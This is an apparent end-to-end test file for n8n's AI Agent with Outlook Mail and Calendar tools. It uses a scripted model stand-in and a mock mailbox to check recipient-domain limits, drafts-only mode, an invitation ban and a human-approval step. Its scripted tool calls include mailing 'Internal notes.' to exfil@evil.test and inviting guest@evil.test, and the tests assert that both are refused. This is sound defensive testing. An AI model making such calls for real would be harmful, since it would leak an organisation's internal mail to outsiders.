/**
 * 12. The AI-tool limits inside n8n's real AI Agent: the AI Agent node with its OpenAI Chat Model
 * node, the OpenAI credential's Base URL pointed at a scripted stand-in (support/openai-standin.ts),
 * Outlook Mail and Outlook Calendar as its tools with limits set by the author. The stand-in
 * records the tools the model is offered (name, description, `$fromAI` schema) and the results
 * it gets back; a Graph stand-in of its own (a furnished mailbox, test/support/graph-world.ts)
 * judges what leaves with its own check (test/support/graph-outbound.ts).
 *
 * Also the Human-review variant n8n derives from Outlook Mail (`outlookMailHitlTool`): the agent's
 * call waits for a person to approve it in the mail the node sends, then runs, inside its limits.
 */
import { randomUUID } from 'node:crypto';
import { copyFileSync, existsSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { chromium } from 'playwright-core';

import { GraphStandIn } from '../../support/graph-standin';
import { OutboundLedger } from '../../support/graph-outbound';
import { GraphWorld } from '../../support/graph-world';
import { TEST_USER } from '../../support/identity-provider';
import type { E2eEnvironment } from '../support/environment';
import { hasNode, PACKAGE_NAME } from '../support/environment';
import {
	createWorkflow,
	readExecution,
	runWorkflow,
	waitForExecution,
	type ExecutionResult,
	type WorkflowNode,
} from '../support/executions';
import { e2eEnvironment, OWNER, REPO_ROOT } from '../support/n8n';
import { OpenAiStandIn, textOf, type ChatRequest } from '../support/openai-standin';
import { BROWSER_AGENT, mailLinks } from './sendAndWait';

/** The Graph stand-in the agent's mailbox lives on (not the demo mailbox of the other scenarios). */
export const AGENT_GRAPH_PORT = Number(process.env.E2E_AGENT_GRAPH_PORT ?? 18093);

const CHROMIUM = '/usr/lib/chromium/chromium';

const fromAI = (key: string, description: string, type = 'string') =>
	`={{ $fromAI('${key}', '${description}', '${type}') }}`;
const sleep = async (ms: number) => await new Promise((r) => setTimeout(r, ms));

const compose = {
	toRecipients: fromAI('to', 'Recipients, separated by commas'),
	subject: fromAI('subject', 'Subject of the mail'),
	bodyContent: fromAI('body', 'Text of the mail'),
};

/** The tools a request offered, by name. */
function offered(request: ChatRequest) {
	return Object.fromEntries(
		(request.tools ?? []).map((t) => [t.function.name, t.function] as const),
	);
}

export function aiAgentScenario(env: E2eEnvironment) {
	let openai: OpenAiStandIn;
	let graph: GraphStandIn;
	let ledger: OutboundLedger;
	let outlook: { id: string; name: string };
	let model: { id: string; name: string };

	const agentTest = hasNode('OutlookMail') && hasNode('OutlookCalendar') ? test : test.skip;

	beforeAll(async () => {
		openai = await OpenAiStandIn.start();
		graph = await GraphStandIn.start(env.idp, AGENT_GRAPH_PORT);
		ledger = new OutboundLedger(TEST_USER).attach(graph);
		outlook = await env.connectedCredential(
			{
				customGraphUrl: graph.url,
				permissions: ['mailReadWrite', 'mailSend', 'calendarsReadWrite'],
			},
			'Agent mailbox',
		);
		model = await env.rest.data<{ id: string; name: string }>('POST', '/rest/credentials', {
			name: 'OpenAI stand-in',
			type: 'openAiApi',
			data: { apiKey: 'sk-stand-in-not-a-secret', url: openai.url, header: false },
		});
	}, 120_000);

	afterAll(async () => {
		await openai?.close();
		await graph?.close();
	});

	beforeEach(() => {
		graph.reset();
		ledger.reset();
		new GraphWorld(graph, ledger)
			.install()
			.addMessage({ id: 'AAMk-release', from: 'ana@contoso.com', to: [TEST_USER] });
	});

	afterEach(() => {
		expect(graph.violations).toEqual([]);
		expect(graph.unhandled).toEqual([]);
		expect(openai.problems).toEqual([]);
	});

	const tool = (
		name: string,
		node: 'outlookMailTool' | 'outlookCalendarTool' | 'outlookMailHitlTool',
		parameters: Record<string, unknown>,
	): WorkflowNode => ({
		id: randomUUID(),
		name,
		type: `${PACKAGE_NAME}.${node}`,
		typeVersion: 1.1,
		position: [0, 0],
		parameters,
		credentials: { outlookOAuth2Api: outlook },
		...(node === 'outlookMailHitlTool' ? { webhookId: randomUUID() } : {}),
	});

	/** Trigger → AI Agent ← OpenAI Chat Model, with these tools (and what feeds into them). */
	function agentWorkflow(
		prompt: string,
		trigger: WorkflowNode,
		tools: WorkflowNode[],
		toolLinks: Record<string, string> = {},
	) {
		const agent: WorkflowNode = {
			id: randomUUID(),
			name: 'AI Agent',
			type: '@n8n/n8n-nodes-langchain.agent',
			typeVersion: 3.1,
			position: [220, 0],
			parameters: {
				promptType: 'define',
				text: prompt,
				options: { systemMessage: 'You write mail for the team. Use the tools.' },
			},
		};
		const chatModel: WorkflowNode = {
			id: randomUUID(),
			name: 'OpenAI Chat Model',
			type: '@n8n/n8n-nodes-langchain.lmChatOpenAi',
			typeVersion: 1.2,
			position: [220, 220],
			parameters: { model: { __rl: true, mode: 'id', value: 'gpt-4o-mini' }, options: {} },
			credentials: { openAiApi: model },
		};
		const connections: Record<string, unknown> = {
			[trigger.name]: { main: [[{ node: agent.name, type: 'main', index: 0 }]] },
			[chatModel.name]: {
				ai_languageModel: [[{ node: agent.name, type: 'ai_languageModel', index: 0 }]],
			},
		};
		for (const t of tools) {
			const target = toolLinks[t.name] ?? agent.name;
			connections[t.name] = { ai_tool: [[{ node: target, type: 'ai_tool', index: 0 }]] };
		}
		return { nodes: [trigger, agent, chatModel, ...tools], connections };
	}

	agentTest(
		'the model is offered each tool with its limits, a call within them runs, a call outside comes back as a tool error naming the limit and nothing leaves, Drafts Only saves a draft, and the agent finishes',
		async () => {
			const tag = `limits-${randomUUID().slice(0, 8)}`;
			openai.script(tag, ({ results }) => {
				const steps = [
					{
						call: 'Draft_to_customers',
						args: { to: 'bob@contoso.com', subject: 'Release 2.0', body: 'It is out.' },
					},
					{
						call: 'Email_the_team',
						args: { to: 'exfil@evil.test', subject: 'Release 2.0', body: 'Internal notes.' },
					},
					{
						call: 'Email_the_team',
						args: { to: 'ana@contoso.com', subject: 'Release 2.0', body: 'It is out.' },
					},
					{
						call: 'Plan_a_meeting',
						args: {
							subject: 'Release review',
							start: '2030-01-10T09:00:00Z',
							end: '2030-01-10T10:00:00Z',
							attendees: 'guest@evil.test',
						},
					},
				];
				return (
					steps[results.length] ?? {
						answer:
							'Drafted the customer mail for review, told Ana; the review meeting needs a person to send its invitation.',
					}
				);
			});
			const workflow = await createWorkflow(
				env.rest,
				`AI agent with limits ${tag}`,
				agentWorkflow(
					`[${tag}] Tell the customer and the team that release 2.0 is out, and set up a review.`,
					{
						id: randomUUID(),
						name: 'Manual Trigger',
						type: 'n8n-nodes-base.manualTrigger',
						typeVersion: 1,
						position: [0, 0],
						parameters: {},
					},
					[
						tool('Draft to customers', 'outlookMailTool', {
							resource: 'message',
							operation: 'send',
							...compose,
							toolAllowedRecipients: 'contoso.com',
						}),
						tool('Email the team', 'outlookMailTool', {
							resource: 'message',
							operation: 'send',
							...compose,
							toolDraftsOnly: false,
							toolAllowedRecipients: 'contoso.com',
							toolMaxRecipients: 3,
						}),
						tool('Plan a meeting', 'outlookCalendarTool', {
							resource: 'event',
							operation: 'create',
							subject: fromAI('subject', 'Title of the meeting'),
							start: fromAI('start', 'Start, ISO 8601'),
							end: fromAI('end', 'End, ISO 8601'),
							additionalFields: {
								requiredAttendees: fromAI('attendees', 'Attendees, separated by commas'),
							},
						}),
						tool('Read inbox', 'outlookMailTool', {
							resource: 'message',
							operation: 'getAll',
							limit: 5,
						}),
					],
				),
			);
			const execution = await runWorkflow(env.rest, workflow, 'Manual Trigger', 180_000);
			const conversation = openai.conversation(tag);
			expect(conversation.length).toBe(5);

			// What the model is offered: each tool's name, the description with its limits, and a
			// schema with only the $fromAI fields.
			const tools = offered(conversation[0]);
			expect(Object.keys(tools).sort()).toEqual([
				'Draft_to_customers',
				'Email_the_team',
				'Plan_a_meeting',
				'Read_inbox',
			]);
			expect(tools.Draft_to_customers.description).toBe(
				'Create a draft in Outlook Mail. Drafts only: nothing is sent; the message is saved in the Drafts folder for a person to review and send. Recipients must be at: contoso.com (addresses, or domains and their subdomains), including those a reply or a meeting update reaches. Sending as another mailbox (From, or another Mailbox) is refused.',
			);
			expect(tools.Email_the_team.description).toBe(
				'Send a message in Outlook Mail. Recipients must be at: contoso.com (addresses, or domains and their subdomains), including those a reply or a meeting update reaches. At most 3 recipients per message. Sending as another mailbox (From, or another Mailbox) is refused.',
			);
			expect(tools.Plan_a_meeting.description).toBe(
				'Create an event in Outlook Calendar. No invitations: a call that would make Outlook mail attendees or the organizer is refused; events without attendees are fine. Sending as another mailbox (From, or another Mailbox) is refused.',
			);
			expect(tools.Read_inbox.description).toBe('Get many messages in Outlook Mail.');
			expect(tools.Email_the_team.parameters).toMatchObject({
				type: 'object',
				properties: {
					to: { type: 'string', description: 'Recipients, separated by commas' },
					subject: { type: 'string', description: 'Subject of the mail' },
					body: { type: 'string', description: 'Text of the mail' },
				},
				required: expect.arrayContaining(['to', 'subject', 'body']),
			});
			expect(Object.keys(tools.Email_the_team.parameters.properties as object).sort()).toEqual([
				'body',
				'subject',
				'to',
			]);

			// What the model got back after each call.
			const results = conversation[4].messages
				.filter((m) => m.role === 'tool')
				.map((m) => textOf(m.content));
			expect(JSON.parse(results[0])).toEqual([
				expect.objectContaining({ sent: false, savedAsDraft: true }),
			]);
			// A refusal reaches the model as the tool's error, naming the limit and what to do.
			expect(JSON.parse(results[1])).toEqual([
				{
					error: expect.stringMatching(
						/^Refused by the tool's limit "Allowed Recipients": exfil@evil\.test \(To\) is not allowed\. Nothing was sent\. Use only recipients at contoso\.com\./,
					),
				},
			]);
			expect(JSON.parse(results[2])).toEqual([expect.objectContaining({ sent: true })]);
			expect(JSON.parse(results[3])).toEqual([
				{
					error: expect.stringMatching(
						/^Refused by the tool's limit "No Invitations": this would make Outlook send mail to guest@evil\.test/,
					),
				},
			]);

			// What left the mailbox, as the Graph stand-in judges it.
			expect(ledger.entries.map((e) => [e.request, e.kind, e.recipients.join(', ')])).toEqual([
				['POST /me/messages', 'draft', 'bob@contoso.com'],
				['POST /me/sendMail', 'sends', 'ana@contoso.com'],
			]);
			expect(execution.status).toBe('success');
			expect(execution.output('AI Agent')[0].json.output).toBe(
				'Drafted the customer mail for review, told Ana; the review meeting needs a person to send its invitation.',
			);
		},
		300_000,
	);

	agentTest(
		"Human review (Outlook Mail as n8n's send-and-wait gate): the call waits for a person, the approval mail goes to the approver, and once approved the tool runs inside its limits",
		async () => {
			const tag = `review-${randomUUID().slice(0, 8)}`;
			const path = `agent-${tag}`;
			openai.script(tag, ({ results }) =>
				results.length === 0
					? {
							call: 'Email_the_team',
							args: {
								toolParameters: {
									to: 'ana@contoso.com',
									subject: 'Launch',
									body: 'We launch today.',
								},
								hitlParameters: {},
							},
						}
					: { answer: `Sent after review: ${results[0].slice(0, 60)}` },
			);
			const webhook: WorkflowNode = {
				id: randomUUID(),
				name: 'Webhook',
				type: 'n8n-nodes-base.webhook',
				typeVersion: 2,
				position: [0, 0],
				webhookId: randomUUID(),
				parameters: { path, httpMethod: 'GET', responseMode: 'onReceived', options: {} },
			};
			const workflow = await createWorkflow(
				env.rest,
				`AI agent with human review ${tag}`,
				agentWorkflow(
					`[${tag}] Tell the team we launch today.`,
					webhook,
					[
						tool('Email the team', 'outlookMailTool', {
							resource: 'message',
							operation: 'send',
							...compose,
							toolDraftsOnly: false,
							toolAllowedRecipients: 'contoso.com',
						}),
						tool('Review by a person', 'outlookMailHitlTool', {
							toRecipients: 'approver@contoso.com',
							subject: `Approve the agent's mail (${tag})?`,
							approvalOptions: { values: { approvalType: 'double' } },
							options: {},
						}),
					],
					{ 'Email the team': 'Review by a person' },
				),
			);
			await env.rest.data('POST', `/rest/workflows/${workflow.id}/activate`, {
				versionId: workflow.versionId,
			});
			let start = await fetch(`${env.server.url}/webhook/${path}`);
			for (let i = 0; start.status === 404 && i < 20; i++) {
				await sleep(500);
				start = await fetch(`${env.server.url}/webhook/${path}`);
			}
			expect(start.status).toBe(200);
			await start.text();

			// The agent asked for the tool; the call waits for the approver.
			let executionId = '';
			let approval: { links: Record<string, URL>; to: string[] } | undefined;
			for (const until = Date.now() + 120_000; Date.now() < until && !approval; await sleep(250)) {
				const mail = ledger.entries.find(
					(e) => e.kind === 'sends' && e.recipients.includes('approver@contoso.com'),
				);
				if (!mail) continue;
				const request = graph.requests.find(
					(r) => r.method === 'POST' && r.path === '/me/sendMail',
				);
				const message = (request?.body as { message: { body: { content: string } } }).message;
				approval = { links: mailLinks(message.body.content), to: mail.recipients };
			}
			expect(approval?.to).toEqual(['approver@contoso.com']);
			const filter = encodeURIComponent(JSON.stringify({ workflowId: workflow.id }));
			const listed = await env.rest.data<{ results: Array<{ id: string; status: string }> }>(
				'GET',
				`/rest/executions?filter=${filter}`,
			);
			executionId = listed.results[0].id;
			expect(listed.results[0].status).toBe('waiting');
			// Nothing but the approval mail has left yet.
			expect(ledger.entries.filter((e) => e.kind !== 'change').map((e) => e.recipients)).toEqual([
				['approver@contoso.com'],
			]);

			// The approver opens the link and presses the page's button, which POSTs the answer
			// (scenario 9 drives that page in chromium; here the same POST).
			const click = await fetch(approval!.links.Approve, {
				method: 'POST',
				headers: {
					'user-agent': BROWSER_AGENT,
					'content-type': 'application/x-www-form-urlencoded',
				},
				body: 'answer=approve',
			});
			expect(click.status).toBe(200);
			await click.text();
			const execution: ExecutionResult = await waitForExecution(env.rest, executionId, 180_000);
			await env.rest.request('POST', `/rest/workflows/${workflow.id}/deactivate`, {});
			if (execution.status !== 'success') {
				const again = await readExecution(env.rest, executionId);
				throw new Error(
					`the execution ended ${execution.status}: ${JSON.stringify(again.error('AI Agent') ?? again.raw).slice(0, 800)}`,
				);
			}
			expect(ledger.entries.filter((e) => e.kind === 'sends').map((e) => e.recipients)).toEqual([
				['approver@contoso.com'],
				['ana@contoso.com'],
			]);
			expect(String(execution.output('AI Agent')[0].json.output)).toMatch(/^Sent after review: /);
		},
		300_000,
	);

	const editorTest = existsSync(CHROMIUM) && hasNode('OutlookMail') ? test : test.skip;

	editorTest(
		'in the editor (chromium): the tool says "Tool Description: Set Automatically", shows its limits, and choosing Send titles it "Write a message in Outlook Mail"',
		async () => {
			const manual: WorkflowNode = {
				id: randomUUID(),
				name: 'Manual Trigger',
				type: 'n8n-nodes-base.manualTrigger',
				typeVersion: 1,
				position: [0, 0],
				parameters: {},
			};
			// The name n8n gives a new Get Many tool, so the editor renames it when the operation changes.
			const name = 'Get many messages in Outlook Mail';
			const workflow = await createWorkflow(
				env.rest,
				`AI tool in the editor ${randomUUID().slice(0, 8)}`,
				agentWorkflow('Read my mail', manual, [
					tool(name, 'outlookMailTool', { resource: 'message', operation: 'getAll' }),
				]),
			);
			const browser = await chromium.launch({
				executablePath: CHROMIUM,
				headless: true,
				args: ['--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage'],
			});
			try {
				const context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
				context.setDefaultTimeout(20_000);
				context.setDefaultNavigationTimeout(120_000);
				const page = await context.newPage();
				await page.goto(`${env.server.url}/signin`);
				await page.fill('input[name=emailOrLdapLoginId]', OWNER.email);
				await page.fill('input[name=password]', OWNER.password);
				await page.click('[data-test-id=form-submit-button]');
				await page.waitForURL((url) => !url.pathname.includes('signin'));
				await page.goto(`${env.server.url}/workflow/${workflow.id}`);
				await page.locator('[data-test-id=canvas-node]', { hasText: name }).first().dblclick();
				const ndv = page.locator('[data-test-id=ndv]');
				await ndv.waitFor();
				const input = (parameter: string) =>
					ndv.locator(`[data-test-id=parameter-input-${parameter}]`);
				await expect(input('descriptionType').locator('input').first().inputValue()).resolves.toBe(
					'Set Automatically',
				);
				// The automatic description is a hidden parameter: no expression in sight.
				expect(await input('toolDescription').count()).toBe(0);
				expect(await ndv.getByText('$parameter').count()).toBe(0);
				for (const limit of ['toolReadOnly', 'toolDraftsOnly', 'toolAllowedRecipients'])
					expect(await input(limit).count()).toBe(1);
				await input('operation').first().click();
				await page
					.locator('.el-select-dropdown__item:visible', { hasText: 'Send a new message' })
					.first()
					.click();
				const dir = join(e2eEnvironment().runDir, 'screenshots');
				mkdirSync(dir, { recursive: true });
				await page.screenshot({ path: join(dir, 'editor-ai-tool.png') });
				await input('toolAllowedFrom').scrollIntoViewIfNeeded();
				await page.screenshot({ path: join(dir, 'editor-ai-tool-limits.png') });
				// The setup guide's picture of the limits (docs/outlook-mail.md), as editor.ts does.
				if (process.env.E2E_UPDATE_DOCS_IMAGES === '1')
					copyFileSync(
						join(dir, 'editor-ai-tool-limits.png'),
						join(REPO_ROOT, 'docs/images/editor-ai-tool-limits.png'),
					);
				await page.locator('[data-test-id=ndv-close-button]').click();
				await ndv.waitFor({ state: 'hidden' });
				const renamed = page.locator('[data-test-id=canvas-node]', {
					hasText: 'Write a message in Outlook Mail',
				});
				await renamed.first().waitFor();
				expect(
					await page.locator('[data-test-id=canvas-node]', { hasText: 'Send a message' }).count(),
				).toBe(0);
				await page.screenshot({ path: join(dir, 'editor-ai-tool-canvas.png') });
			} finally {
				await browser.close();
			}
		},
		240_000,
	);
}
